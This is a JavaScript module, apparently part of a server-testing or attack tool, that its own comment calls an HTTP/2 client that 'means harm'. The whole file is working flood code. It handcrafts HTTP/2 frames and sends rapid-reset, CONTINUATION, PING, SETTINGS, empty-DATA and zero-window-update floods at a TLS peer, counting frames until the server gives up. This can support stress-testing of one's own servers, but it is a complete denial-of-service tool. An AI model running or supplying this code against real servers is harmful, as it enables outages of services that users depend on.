// Used by flood.mjs and the tests, not run by itself: a client that speaks HTTP/2 frame by frame (RFC 9113) and means harm. It sends as
// many frames of one kind as it is told, or as the other side lets it.
// In: a TLS socket that negotiated h2, a kind, a count. Out: how many were sent and how it ended.

const PREFACE = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", "latin1");
const TYPE = { data: 0, headers: 1, reset: 3, settings: 4, ping: 6, goaway: 7, windowUpdate: 8, continuation: 9 };
const END_STREAM = 1;
const ACK = 1;
const END_HEADERS = 4;
const FRAME_HEAD_BYTES = 9;
const BATCH = 100;
const LAST_WORD_MS = 10_000;

/**
 * What each kind sends: once at first, then again and again. `at` counts from 0.
 * @type {Record<string, { open: (host: string) => Buffer, repeat: (at: number, host: string) => Buffer }>}
 */
export const FLOODS = {
  "rapid reset": {
    open: () => Buffer.alloc(0),
    repeat: (at, host) =>
      Buffer.concat([
        frame(TYPE.headers, { flags: END_STREAM | END_HEADERS, stream: 2 * at + 1 }, head("GET", host)),
        frame(TYPE.reset, { flags: 0, stream: 2 * at + 1 }, uint32(8)),
      ]),
  },
  continuation: {
    open: (host) => frame(TYPE.headers, { flags: END_STREAM, stream: 1 }, head("GET", host)),
    // A literal field of its own each time: empty ones would be too easy to count.
    repeat: () => frame(TYPE.continuation, { flags: 0, stream: 1 }, Buffer.from("\0\x01a\x01b", "latin1")),
  },
  ping: { open: () => Buffer.alloc(0), repeat: () => frame(TYPE.ping, { flags: 0, stream: 0 }, Buffer.alloc(8)) },
  settings: { open: () => Buffer.alloc(0), repeat: () => frame(TYPE.settings, { flags: 0, stream: 0 }, Buffer.alloc(0)) },
  "empty data": {
    open: (host) => frame(TYPE.headers, { flags: END_HEADERS, stream: 1 }, head("POST", host)),
    repeat: () => frame(TYPE.data, { flags: 0, stream: 1 }, Buffer.alloc(0)),
  },
  "zero window update": {
    open: (host) => frame(TYPE.headers, { flags: END_HEADERS, stream: 1 }, head("POST", host)),
    repeat: () => frame(TYPE.windowUpdate, { flags: 0, stream: 1 }, uint32(0)),
  },
};

/**
 * @typedef {object} FloodResult
 * @property {number} sent frames that were handed to the socket
 * @property {boolean} isClosed the other side ended the connection, or said that it will
 */

/**
 * @param {import("node:tls").TLSSocket} socket
 * @param {{ kind: string, count: number, host: string }} order
 * @returns {Promise<FloodResult>}
 */
export async function flood(socket, { kind, count, host }) {
  const { open, repeat } = FLOODS[kind] ?? FLOODS.ping;
  const peer = listen(socket);
  socket.write(Buffer.concat([PREFACE, frame(TYPE.settings, { flags: 0, stream: 0 }, Buffer.alloc(0)), open(host)]));
  let sent = 0;
  while (sent < count && !peer.isClosed()) {
    const batch = [];
    for (let i = 0; i < BATCH && sent < count; i += 1, sent += 1) batch.push(repeat(sent, host));
    const isFlowing = socket.write(Buffer.concat(batch));
    await (isFlowing ? new Promise((resolve) => setImmediate(resolve)) : Promise.race([drained(socket), peer.closed]));
  }
  // Every frame has been read when this one is answered; a peer that reads no more says so, or hangs up.
  if (!peer.isClosed()) socket.write(frame(TYPE.ping, { flags: 0, stream: 0 }, Buffer.from("the end.")));
  await Promise.race([peer.lastWord, peer.closed, new Promise((resolve) => setTimeout(resolve, LAST_WORD_MS).unref())]);
  const isClosed = peer.isClosed();
  socket.destroy();
  return { sent, isClosed };
}

/** @param {import("node:tls").TLSSocket} socket */
function listen(socket) {
  let unread = Buffer.alloc(0);
  let isClosed = false;
  let close = () => {};
  let hearLast = () => {};
  const closed = new Promise((resolve) => (close = () => resolve((isClosed = true))));
  const lastWord = new Promise((resolve) => (hearLast = () => resolve(true)));
  socket.on("error", () => close());
  socket.on("close", () => close());
  socket.on("data", (chunk) => {
    unread = Buffer.concat([unread, chunk]);
    while (unread.length >= FRAME_HEAD_BYTES && unread.length >= FRAME_HEAD_BYTES + unread.readUIntBE(0, 3)) {
      const end = FRAME_HEAD_BYTES + unread.readUIntBE(0, 3);
      if (unread[3] === TYPE.goaway) close();
      if (unread[3] === TYPE.ping && unread[4] === ACK && unread.toString("latin1", FRAME_HEAD_BYTES, end) === "the end.") hearLast();
      unread = unread.subarray(end);
    }
  });
  return { closed, lastWord, isClosed: () => isClosed };
}

/** @param {import("node:tls").TLSSocket} socket */
function drained(socket) {
  return new Promise((resolve) => socket.once("drain", () => resolve(true)));
}

/** @param {number} type @param {{ flags: number, stream: number }} head @param {Buffer} payload */
function frame(type, { flags, stream }, payload) {
  const bytes = Buffer.alloc(FRAME_HEAD_BYTES + payload.length);
  bytes.writeUIntBE(payload.length, 0, 3);
  bytes[3] = type;
  bytes[4] = flags;
  bytes.writeUInt32BE(stream, 5);
  payload.copy(bytes, FRAME_HEAD_BYTES);
  return bytes;
}

/** A request head by the static table of HPACK (RFC 7541, appendix A). @param {"GET" | "POST"} method @param {string} host */
function head(method, host) {
  return Buffer.concat([Buffer.from([method === "GET" ? 0x82 : 0x83, 0x87, 0x84, 0x41, host.length]), Buffer.from(host, "latin1")]);
}

/** @param {number} value */
function uint32(value) {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value);
  return bytes;
}
